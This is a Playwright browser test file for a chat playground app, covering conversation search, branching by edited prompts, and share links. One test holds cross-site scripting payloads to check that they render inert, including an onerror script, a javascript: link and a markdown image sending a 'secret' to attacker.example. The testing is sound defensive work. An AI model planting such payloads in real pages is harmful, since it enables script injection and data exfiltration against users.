"""History, branches and sharing as a person uses them, in a real Chromium."""

from __future__ import annotations

import re

from playwright.sync_api import Browser, Page, expect

from tests.browser.conftest import send, sign_up, wait_live
from tests.browser.test_playground import assistants, texts

LOGGED_OUT_VIEWPORT = {"width": 1200, "height": 900}


def _answered(page: Page, prompt: str) -> str:
    send(page, prompt)
    card = assistants(page).last
    expect(card).to_have_attribute("data-status", "complete")
    return texts(card)[1]


def test_search_finds_a_conversation_by_a_word_of_its_answer(page: Page, base: str) -> None:
    sign_up(page, base, "alice")
    answer = _answered(page, "Tell me about glaciers")
    title_words = {"tell", "me", "about", "glaciers"}
    word = next(w for w in re.findall(r"[A-Za-z]{6,}", answer) if w.lower() not in title_words)
    page.goto(f"{base}/c/")
    page.get_by_label("Search conversations").first.fill(word)
    page.get_by_label("Search conversations").first.press("Enter")
    results = page.locator("main")
    expect(results.get_by_role("link", name="Tell me about glaciers", exact=True)).to_be_visible()
    expect(results.locator("mark").first).to_have_text(re.compile(word, re.I))


def test_edit_and_resend_makes_a_branch_and_the_arrows_switch(page: Page, base: str) -> None:
    sign_up(page, base, "alice")
    _answered(page, "The first version")
    you = page.get_by_role("article", name="You")
    you.get_by_text("Edit", exact=True).click()
    editor = you.get_by_label("Edit this prompt")
    editor.fill("The second version")
    you.get_by_role("button", name="Send edit").click()
    expect(page.get_by_role("article", name="You")).to_contain_text("The second version")
    expect(assistants(page)).to_have_attribute("data-status", "complete")
    expect(page.get_by_text("2 / 2")).to_be_visible()
    page.get_by_role("button", name="Previous prompt").click()
    expect(page.get_by_role("article", name="You")).to_contain_text("The first version")
    expect(page.get_by_text("1 / 2")).to_be_visible()
    page.get_by_role("button", name="Next prompt").click()
    expect(page.get_by_role("article", name="You")).to_contain_text("The second version")


def _fresh_page(browser: Browser) -> Page:
    """A new browser context: no cookies, nobody logged in."""
    return browser.new_context(viewport=LOGGED_OUT_VIEWPORT).new_page()


def test_share_open_logged_out_revoke_and_continue_as_someone_else(
    page: Page, base: str, browser: Browser
) -> None:
    sign_up(page, base, "alice")
    answer = _answered(page, "Share this thought")
    page.get_by_role("link", name="Share", exact=True).click()
    page.get_by_role("button", name="Create share link").click()
    url = page.locator(".share-url").first.inner_text().strip()
    assert "/s/" in url

    stranger = _fresh_page(browser)
    stranger.goto(url)
    expect(stranger.locator("main")).to_contain_text("Share this thought")
    expect(stranger.locator("main")).to_contain_text(answer.split()[0])
    expect(stranger.locator("body")).not_to_contain_text("alice")

    bob = _fresh_page(browser)
    sign_up(bob, base, "bob")
    bob.goto(url)
    bob.get_by_role("link", name="Continue in my playground").click()
    bob.get_by_role("button", name="Continue in my playground").click()
    expect(bob).to_have_url(re.compile(r"/c/\d+/$"))
    wait_live(bob)
    expect(bob.get_by_role("article", name="You")).to_contain_text("Share this thought")

    page.goto(f"{base}/shares/")
    page.get_by_role("link", name="Revoke").first.click()
    page.get_by_role("button", name="Revoke").click()
    expect(page.get_by_role("button", name="Undo")).to_be_visible()
    response = stranger.goto(url)
    assert response is not None and response.status == 404
    stranger.context.close()
    bob.context.close()


ATTACK = (
    "<img src=x onerror=alert(1)> [x](javascript:alert(1)) "
    "![x](https://attacker.example/p.png?q=secret) "
    '<div hx-get="/" hx-trigger="load">'
)


def test_attack_strings_stay_inert_everywhere(page: Page, base: str) -> None:
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    sign_up(page, base, "alice")
    _answered(page, ATTACK)
    expect(page).to_have_title(re.compile(re.escape("<img src=x onerror=alert(1)>")))
    expect(page.get_by_role("article", name="You")).to_contain_text("<img src=x onerror=alert(1)>")
    for where in (f"{base}/c/", f"{base}/c/?q=onerror"):
        page.goto(where)
        expect(page.locator("main")).to_contain_text("<img src=x onerror=alert(1)>")
    page.go_back()
    page.goto(f"{base}/")
    page.goto(f"{base}/c/")
    page.locator("main a.row-title").first.click()
    page.get_by_role("link", name="Share", exact=True).click()
    page.get_by_role("button", name="Create share link").click()
    page.goto(page.locator(".share-url").first.inner_text().strip())
    expect(page.locator("main")).to_contain_text("<img src=x onerror=alert(1)>")
    assert page.locator("main img").count() == 0
    assert dialogs == []
    # The page fixture fails the test if any request left for another host.
